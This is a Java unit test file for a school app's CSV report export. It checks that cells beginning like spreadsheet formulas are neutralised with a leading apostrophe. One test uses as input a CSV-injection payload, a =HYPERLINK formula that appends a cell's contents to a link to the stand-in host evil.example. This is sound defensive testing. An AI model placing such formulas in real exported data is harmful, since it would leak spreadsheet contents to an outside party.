package fr.somme.ent.projects.rest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.LocalDate;
import java.util.List;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import fr.somme.ent.projects.domain.ValidatedClass;

class ReportCsvTest {

    @Test
    void cellsStartingLikeAFormulaAreNeutralised() {
        for (String formula : List.of("=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\tx", "\rx")) {
            assertEquals("'" + formula, ReportCsv.neutralised(formula), formula);
        }
        // plain numbers stay numbers (the shared CsvWriter's rule): a spreadsheet evaluates nothing in them
        for (String plain : List.of("", "CM1 = CE2", "a-b", "'déjà", "ECOLE PRIMAIRE", "-2", "+3", "-12.50")) {
            assertEquals(plain, ReportCsv.neutralised(plain), plain);
        }
    }

    @Test
    void aHyperlinkInAClassLabelReachesTheSpreadsheetAsText() {
        UUID id = UUID.randomUUID();
        String csv = ReportCsv.validatedClasses(List.of(new ValidatedClass("2026-2027", "0801", "0800001A", "@ECOLE", id,
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "CM1,CM2", 24, "-ien", LocalDate.of(2026, 11, 16))));
        assertTrue(csv.endsWith("2026-2027,0801,0800001A,'@ECOLE," + id
                + ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"clic\"\")\",\"CM1,CM2\",24,'-ien,2026-11-16\r\n"), csv);
    }
}
